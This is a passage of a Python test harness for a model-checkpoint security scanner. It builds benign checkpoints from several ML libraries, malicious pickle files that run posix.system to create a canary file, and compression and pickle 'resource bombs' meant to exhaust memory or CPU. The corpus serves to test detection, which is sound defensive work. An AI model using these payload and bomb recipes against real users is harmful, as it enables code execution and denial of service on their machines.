            torch.save(args, p)

        yield ("transformers-training-args", "training_args.bin", "torch.load", "transformers", training_args)
        yield ("transformers-seq2seq-training-args", "training_args.bin", "torch.load", "transformers", seq2seq_args)

    # ---- lightning ----
    if _installed("lightning"):

        def lightning_fit(p: Path) -> None:
            _lightning_fit(p)

        def fabric_save(p: Path) -> None:
            from lightning.fabric import Fabric
            from lightning.fabric.utilities.data import AttributeDict

            fabric = Fabric(accelerator="cpu", devices=1)
            net, opt = stepped(torch.optim.Adam, lr=1e-3)
            fabric.save(p, {"model": net, "optimizer": opt, "iteration": 10, "hparams": AttributeDict(lr=1e-3, batch_size=8)})

        yield ("lightning-trainer-fit", "last.ckpt", "torch.load", "lightning", lightning_fit)
        yield ("lightning-fabric-save", "checkpoint.ckpt", "torch.load", "lightning", fabric_save)

    # ---- accelerate ----
    if _installed("accelerate"):

        def accelerate_state(p: Path) -> None:
            from accelerate.checkpointing import save_accelerator_state

            net, opt = stepped(torch.optim.Adam, lr=1e-3)
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")
                save_accelerator_state(str(p.parent), [net.state_dict()], [opt], [], [], 0, 0)
            assert p.exists(), "accelerate wrote no random_states_0.pkl"

        yield ("accelerate-random-states", "random_states_0.pkl", "torch.load", "accelerate", accelerate_state)

    # ---- issue 31, items 2 and 5: compressions and archives a loader infers from the name ----
    def pandas_pickle(p: Path) -> None:
        import pandas

        pandas.to_pickle({"epoch": 3, "lr": [0.1, 0.01], "weights": np.arange(4.0)}, p)  # compression="infer"

    def composer_compressed(p: Path) -> None:
        buffer = io.BytesIO()
        torch.save({"state": {"model": model().state_dict()}, "rng": []}, buffer)
        p.write_bytes(_cli_compressed("zstd", buffer.getvalue()))
        (p.parent / "latest-rank0.pt.zst").symlink_to(p.name)  # CheckpointSaver's latest link, named as the save

    def nemo_gzipped(p: Path) -> None:
        buffer = io.BytesIO()
        torch.save(model().state_dict(), buffer)
        p.write_bytes(_tarfile([("model_config.yaml", b"target: x\n"), ("model_weights.ckpt", buffer.getvalue())], "w:gz"))

    if _installed("pandas"):
        yield ("pandas-to-pickle-tar", "frame.pkl.tar", "pandas.read_pickle", "pandas", pandas_pickle)
        yield ("pandas-to-pickle-xz", "frame.pkl.xz", "pandas.read_pickle", "pandas", pandas_pickle)
        if _installed("zstandard"):  # pandas compresses `.zst` with it
            yield ("pandas-to-pickle-zst", "frame.pkl.zst", "pandas.read_pickle", "pandas", pandas_pickle)
    if shutil.which("zstd"):
        yield ("composer-save-pt-zst", "ep1-ba4-rank0.pt.zst", "composer.load", "composer", composer_compressed)
    yield ("nemo-gzipped-bare-names", "model.nemo", "nemo.restore", "nemo", nemo_gzipped)


def _installed(module: str) -> bool:
    return importlib.util.find_spec(module) is not None


def _lightning_fit(path: Path) -> None:
    """A real `Trainer.fit` (CPU, one batch); its checkpoint is moved to `path`."""
    import logging

    import lightning as L
    import torch

    class Tiny(L.LightningModule):
        def __init__(self, lr: float = 0.1) -> None:
            super().__init__()
            self.save_hyperparameters()
            self.layer = torch.nn.Linear(2, 1)

        def training_step(self, batch: Any, index: int) -> Any:
            return self.layer(batch[0]).sum()

        def configure_optimizers(self) -> Any:
            return torch.optim.SGD(self.parameters(), lr=self.hparams.lr)

    for name in ("lightning", "lightning.pytorch", "lightning.fabric"):
        logging.getLogger(name).setLevel(logging.ERROR)
    loader = torch.utils.data.DataLoader(torch.utils.data.TensorDataset(torch.ones(2, 2)), batch_size=2)
    with tempfile.TemporaryDirectory() as tmp, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        trainer = L.Trainer(
            default_root_dir=tmp,
            max_epochs=1,
            limit_train_batches=1,
            accelerator="cpu",
            devices=1,
            logger=False,
            enable_progress_bar=False,
            enable_model_summary=False,
        )
        trainer.fit(Tiny(), loader)
        [written] = Path(tmp).rglob("*.ckpt")
        path.write_bytes(written.read_bytes())


# --------------------------------------------------------------------------------------------
# build, fire
# --------------------------------------------------------------------------------------------


def sample_names() -> list[tuple[str, bool]]:
    """(name, malicious) of every sample `build` writes, in its order, without writing anything."""
    return [(spec[0], True) for spec in _malicious_specs()] + [(spec[0], False) for spec in _benign_specs()]


def build(root: Path) -> list[Sample]:
    """Writes every sample under `root`, each alone in `root/<name>/`; returns them."""
    root = Path(root)
    (root / CANARY_DIR).mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []
    base = _Bases()
    for name, filename, loader, family, make in _malicious_specs():
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / filename
        canary = root / CANARY_DIR / name
        assert "\n" not in str(canary) and "\\" not in str(canary)
        canary.unlink(missing_ok=True)
        assert loader in LOADERS and family in MALICIOUS_FAMILIES, name
        path.write_bytes(make(_Ctx(str(canary), path, base)))
        samples.append(Sample(name, path, True, loader, family, canary))
    for name, filename, loader, family, write in _benign_specs():
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / filename
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # beta and deprecation notices of the libraries
            write(path)
        assert path.is_file(), f"{name}: {path} was not written"
        samples.append(Sample(name, path, False, loader, family, None))
    names = [s.name for s in samples]
    assert len(names) == len(set(names)), "sample names must be unique"
    return samples


_CHILD = r"""
import json, signal, sys, warnings
warnings.simplefilter("ignore")
jobs = json.load(open(sys.argv[1]))
out = open(sys.argv[2], "a")
limit = float(sys.argv[3])

class SampleTimeout(BaseException):
    pass

def alarm(*_):
    raise SampleTimeout()

signal.signal(signal.SIGALRM, alarm)

def load(loader, path):
    if loader == "torch.load":
        import torch
        torch.load(path, weights_only=False)
    elif loader == "pickle.load":
        import pickle
        with open(path, "rb") as f:
            pickle.load(f)
    elif loader == "numpy.load":
        import numpy
        loaded = numpy.load(path, allow_pickle=True)
        if hasattr(loaded, "files"):  # an NpzFile: every member is read, as a victim would
            error = None
            with loaded:
                for key in loaded.files:
                    try:
                        loaded[key]
                    except Exception as e:
                        error = error or e
            if error is not None:
                raise error
    elif loader == "joblib.load":
        import joblib
        joblib.load(path)
    elif loader == "dcp.load":
        import os, tempfile, warnings
        from torch.distributed.checkpoint.format_utils import dcp_to_torch_save
        warnings.simplefilter("ignore")
        dcp_to_torch_save(os.path.dirname(path), os.path.join(tempfile.mkdtemp(), "whole.pt"))
    elif loader == "keras.load_model":  # issue 31, item 1
        import os
        os.environ["KERAS_BACKEND"] = "torch"
        import keras
        keras.saving.load_model(path, safe_mode=False)
    elif loader == "pandas.read_pickle":
        import pandas
        pandas.read_pickle(path)
    elif loader == "composer.load":
        import os, shutil, subprocess, tempfile, torch
        tools = {"bz2": "bzip2", "gz": "gzip", "lz4": "lz4", "lzma": "lzma", "lzo": "lzop", "xz": "xz", "zst": "zstd"}
        out = os.path.join(tempfile.mkdtemp(), "rank0_checkpoint")
        with open(out, "wb") as f:
            proc = subprocess.Popen([tools[path.rsplit(".", 1)[1]], "-dc", path], stdout=subprocess.PIPE)
            shutil.copyfileobj(proc.stdout, f)
            if proc.wait():
                raise IOError("failed to decompress " + path)
        torch.load(out, map_location="cpu", weights_only=False)
    elif loader == "nemo.restore":
        import os, tarfile, tempfile, torch
        try:
            tarfile.open(path, "r:").close()
            mode = "r:"
        except tarfile.ReadError:
            mode = "r:gz"
        out = tempfile.mkdtemp()
        with tarfile.open(path, mode) as tar:
            tar.extractall(out, filter="data")
        torch.load(os.path.join(out, "model_weights.ckpt"), map_location="cpu", weights_only=False)
    else:
        raise ValueError("unknown loader " + loader)

for job in jobs:
    signal.setitimer(signal.ITIMER_REAL, limit)
    try:
        load(job["loader"], job["path"])
        error = None
    except SampleTimeout:
        error = "timeout"
    except BaseException as e:
        error = (type(e).__name__ + ": " + str(e))[:500]
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
    out.write(json.dumps({"name": job["name"], "error": error}) + "\n")
    out.flush()
"""


def load_results(samples: Sequence[Sample], timeout: float = 120, per_sample: float = 30) -> dict[str, str | None]:
    """Loads each sample the way its victim would, in child processes (one per loader, run side by
    side). Returns name -> None (loaded) or the error text ("timeout", "not run" if the child died
    or ran out of time first)."""
    results: dict[str, str | None] = {s.name: "not run" for s in samples}
    deadline = time.monotonic() + timeout
    with tempfile.TemporaryDirectory(prefix="ckptdoctor-fire-") as tmp:
        children: list[tuple[subprocess.Popen[bytes], Path]] = []
        for loader in LOADERS:
            jobs = [{"name": s.name, "path": str(s.path), "loader": s.loader} for s in samples if s.loader == loader]
            if not jobs:
                continue
            spec, out = Path(tmp) / f"{loader}.json", Path(tmp) / f"{loader}.out"
            spec.write_text(json.dumps(jobs))
            out.touch()
            work = Path(tmp) / f"{loader}.cwd"
            work.mkdir()
            child = subprocess.Popen(
                [sys.executable, "-c", _CHILD, str(spec), str(out), str(per_sample)],
                cwd=work,
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
            children.append((child, out))
        for child, _out in children:
            try:
                child.wait(timeout=max(0.1, deadline - time.monotonic()))
            except subprocess.TimeoutExpired:
                os.killpg(child.pid, signal.SIGKILL)
                child.wait()
        for _child, out in children:
            for line in out.read_text().splitlines():
                record = json.loads(line)
                results[record["name"]] = record["error"]
    unknown = {s.loader for s in samples} - set(LOADERS)
    assert not unknown, f"unknown loaders {unknown}"
    return results


def fire(samples: Sequence[Sample], timeout: float = 120) -> set[str]:
    """Loads every given sample as its victim would (never in this process) and returns the names of
    those whose canary appeared."""
    return fired_and_loaded(samples, timeout)[0]


def fired_and_loaded(samples: Sequence[Sample], timeout: float = 120) -> tuple[set[str], dict[str, str | None]]:
    """What :func:`fire` returns, and each sample's :func:`load_results`: one child per loader for
    benign and malicious samples together, each loaded in the order given (benign first, so that no
    payload has run in the child before them)."""
    with_canary = [s for s in samples if s.canary is not None]
    for sample in with_canary:
        assert sample.canary is not None
        sample.canary.unlink(missing_ok=True)
    results = load_results(samples, timeout)
    # some gadgets (Popen) start a process that creates the canary a moment later
    settle = time.monotonic() + 3
    while time.monotonic() < settle and not all(s.canary and s.canary.exists() for s in with_canary):
        time.sleep(0.05)
    return {s.name for s in with_canary if s.canary is not None and s.canary.exists()}, results


# --------------------------------------------------------------------------------------------
# resource bombs: each must be verified quickly, with an error-level finding
# --------------------------------------------------------------------------------------------


@dataclass
class Measured:
    """A ``verify --json`` run in a child process, with what it and every process it forked cost."""

    exit_code: int
    cpu: float
    """Seconds of CPU time, user and system."""
    peak: int
    """Peak resident bytes of the largest of them."""
    report: dict[str, Any]


def verify_measured(folder: Path, *options: str, runs: int = 3) -> Measured:
    """``verify --json`` of ``folder`` as the only child of a fresh parent, whose
    ``RUSAGE_CHILDREN`` then counts it and the processes it forked (readers fork for libhdf5).
    The run of least CPU time of ``runs``, as ``timeit`` takes the least: on these shared cores
    another tenant's load inflates CPU time by up to a third, and never shrinks it. Every run
    must give the same exit code and report."""
    measure = (
        "import json, resource, subprocess, sys; "
        "out = subprocess.run([sys.executable, '-m', 'ckptdoctor', 'verify', '--json', *sys.argv[1:]], capture_output=True, text=True); "
        "use = resource.getrusage(resource.RUSAGE_CHILDREN); "
        "print(json.dumps([out.returncode, use.ru_utime + use.ru_stime, use.ru_maxrss, out.stdout]))"
    )
    measured = []
    for _ in range(runs):
        child = subprocess.run(
            [sys.executable, "-c", measure, *options, str(folder)], capture_output=True, text=True, check=True, cwd=folder
        )
        exit_code, cpu, peak_kib, stdout = json.loads(child.stdout)
        measured.append(Measured(exit_code, cpu, peak_kib * 1024, json.loads(stdout)))  # ru_maxrss is in KiB on Linux
    assert len({(m.exit_code, json.dumps(m.report, sort_keys=True)) for m in measured}) == 1, "runs disagree"
    return min(measured, key=lambda m: m.cpu)


RESOURCE_BOMBS = (
    "bomb-memo-tuple-64-levels",
    "bomb-torch-zip-memo-tuple-40-levels",
    "bomb-mark-pop-chain",
    "bomb-deep-marks",
    "bomb-many-memo-entries",
    "bomb-deep-list-nesting",
    "bomb-huge-memo-index",
    "bomb-huge-frame-length",
    "bomb-huge-binunicode8-length",
    "bomb-huge-long4",
    "bomb-long-text-int",
    "bomb-npy-huge-shape",
    "bomb-npz-deflate-then-payload",
    "bomb-zip-many-members",
    "bomb-tar-many-members",
    "bomb-exponential-dict-memo",
    # issue 31 item 4: zip members that inflate far past what the question needs, read many times over
    "bomb-npz-2000-entries-one-deflate",
    "bomb-npz-duplicate-names",
    "bomb-npz-objects-then-deflated-zeros",
    "bomb-torch-zip-overlapping-pickles",
    "bomb-npz-stored-claims-huge-sizes",
    # issue 31, item 4: compressed pickles and content, bounded by what the question needs
    "bomb-gzip-pickle-opcodes",
    "bomb-zstd-pickle-opcodes",
    "bomb-bz2-pickle-long-argument",
    "bomb-composer-zstd-inflation",
)
COMPRESSED_BOMBS = RESOURCE_BOMBS[-4:]
"""Those `test_compressed.py` holds to 2 s of CPU and 256 MiB in a child process."""
"""Names of the inputs `build_bombs` writes. Each carries a payload (behind its costly part) or is
malformed, so each deserves an error-level finding; none needs to be live. Sizes are such that a
scanner linear in the opcode count (a few microseconds an opcode) needs well under a second, while
one that copies its stack, memo or marks per opcode, expands shared objects, recurses per nesting
level or allocates what a length field claims does not finish (or crashes)."""


def build_bombs(root: Path) -> list[Path]:
    root = Path(root)
    base = _Bases()
    canary = str(root / CANARY_DIR / "bomb")
    pay = _pickle("posix.system", canary, 0)

    def npz_deflate() -> bytes:
        # a float64 member that inflates to 128 MiB, then a member holding an object array
        members = [_RawMember.zeros("arr_0.npy", _npy("'<f8'", f"({(128 << 20) // 8},)", b""), 128 << 20)]
        members.append(_RawMember.stored("arr_1.npy", _npy("'|O'", "(1,)", pay)))
        return _raw_zip(members, [(0, None), (1, None)])

    def zip_many() -> bytes:
        members = _members(base.torch_zip)
        extra = [(f"archive/extra/{i}", b"") for i in range(5000)]
        evil = (members[0][0], _splice_after_proto(members[0][1], _stmt("posix.system", canary)))
        return _zip([*members[1:], *extra, evil])

    def tar_many() -> bytes:
        entries: list[tuple[str, bytes]] = [(f"junk/{i}", b"") for i in range(5000)]
        return _tar([*entries, ("storages", _TAR_NO_STORAGES), ("tensors", _TAR_NO_TENSORS), ("pickle", pay)])

    def exponential_dict() -> bytes:
        # d0 = {}; d(i+1) = {"a": di, "b": di}: 2**48 leaves if expanded
        out = b"\x80\x02}r" + struct.pack("<I", 0)
        for i in range(48):
            get = b"j" + struct.pack("<I", i)
            out += b"}(" + _u("a") + get + _u("b") + get + b"ur" + struct.pack("<I", i + 1)
        return out + b"0" + pay

    # issue 31 item 4: one deflate stream of 200 MB, the object array's pickle before 200 MB of zeros
    floats = _RawMember.zeros("arr_0.npy", _npy("'<f8'", f"({(200 << 20) // 8},)", b""), 200 << 20)
    objects = _RawMember.zeros("arr_0.npy", _npy("'|O'", "(1,)", pay), 200 << 20)
    huge = dataclasses.replace(_RawMember.stored("arr_0.npy", _npy("'|O'", "(1,)", pay)), claims=0xFFFF_FFF0)

    def torch_overlapping() -> bytes:
        # 2,000 entries over one deflated pickle whose call comes after 200 MB of bytes
        members = [_RawMember.stored(name, content) for name, content in _members(base.torch_zip)]
        head = b"\x80\x02\x8e" + struct.pack("<Q", 200 << 20)
        members.append(_RawMember.zeros("archive/extra.pkl", head, 200 << 20, b"0" + pay))
        entries = [(i, None) for i in range(len(members))]
        return _raw_zip(members, entries + [(len(members) - 1, f"archive/extra{i}.pkl") for i in range(2000)])

    bombs: dict[str, tuple[str, bytes]] = {
        "bomb-memo-tuple-64-levels": ("data.pkl", b"\x80\x02" + _memo_tuples(64) + pay),
        "bomb-torch-zip-memo-tuple-40-levels": (
            "model.pt",
            base.zip_with_data_pkl(
                lambda d: _add_setitem(
                    _splice_after_proto(d, _memo_tuples(40) + _stmt("posix.system", canary)), "t", b"j" + struct.pack("<I", 1040)
                )
            ),
        ),
        "bomb-mark-pop-chain": ("data.pkl", b"\x80\x02" + b"(0" * 150_000 + pay),
        "bomb-deep-marks": ("data.pkl", b"\x80\x02" + b"(" * 120_000 + b"1" * 120_000 + pay),
        "bomb-many-memo-entries": ("data.pkl", b"\x80\x04" + b"N\x940" * 150_000 + pay),
        "bomb-deep-list-nesting": ("data.pkl", b"\x80\x02" + b"]" * 120_000 + b"a" * 119_999 + b"0" + pay),
        "bomb-huge-memo-index": ("data.pkl", b"\x80\x02Nr\xff\xff\xff\x7f0" + pay),
        "bomb-huge-frame-length": ("data.pkl", b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + pay),
        "bomb-huge-binunicode8-length": ("data.pkl", b"\x80\x04" + pay[:-1] + b"0\x8d" + struct.pack("<Q", 1 << 62) + b"x."),
        "bomb-huge-long4": ("data.pkl", b"\x80\x02\x8b" + struct.pack("<i", 200_000) + b"\x01" * 200_000 + b"0" + pay),
        "bomb-long-text-int": ("data.pkl", b"\x80\x02I" + b"9" * 200_000 + b"\n0" + pay),
        "bomb-npy-huge-shape": ("arr.npy", _npy("'<f8'", "(4611686018427387904, 4611686018427387904)", bytes(64))),
        "bomb-npz-deflate-then-payload": ("arrays.npz", npz_deflate()),
        "bomb-zip-many-members": ("model.pt", zip_many()),
        "bomb-tar-many-members": ("model.pt", tar_many()),
        "bomb-exponential-dict-memo": ("data.pkl", exponential_dict()),
        # issue 31 item 4
        "bomb-npz-2000-entries-one-deflate": ("arrays.npz", _raw_zip([floats], [(0, f"arr_{i}.npy") for i in range(2000)])),
        "bomb-npz-duplicate-names": ("arrays.npz", _raw_zip([floats], [(0, None)] * 2000)),
        "bomb-npz-objects-then-deflated-zeros": ("arrays.npz", _raw_zip([objects], [(0, f"arr_{i}.npy") for i in range(1000)])),
        "bomb-torch-zip-overlapping-pickles": ("model.pt", torch_overlapping()),
        "bomb-npz-stored-claims-huge-sizes": ("arrays.npz", _raw_zip([huge], [(0, None)])),
        # millions of opcodes from a few KiB, a 200 MiB argument before the payload, a zip that inflates to 1 GiB
        "bomb-gzip-pickle-opcodes": ("model.pkl.gz", gzip.compress(b"\x80\x02" + b"N0" * 20_000_000 + pay, 9)),
        "bomb-zstd-pickle-opcodes": ("model.pkl.zst", _zstd_stream([b"\x80\x02", *[b"N0" * (1 << 20)] * 20, pay])),
        "bomb-bz2-pickle-long-argument": (
            "model.pkl.bz2",
            bz2.compress(b"\x80\x04\x8e" + struct.pack("<Q", 200 << 20) + bytes(200 << 20) + b"0" + pay, 9),
        ),
        "bomb-composer-zstd-inflation": ("ep1-ba4-rank0.pt.zst", _zstd_stream([base.torch_zip[:64], *[bytes(1 << 24)] * 64])),
    }
    assert tuple(bombs) == RESOURCE_BOMBS
    paths = []
    for name, (filename, data) in bombs.items():
        folder = root / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / filename).write_bytes(data)
        paths.append(folder / filename)
    return paths
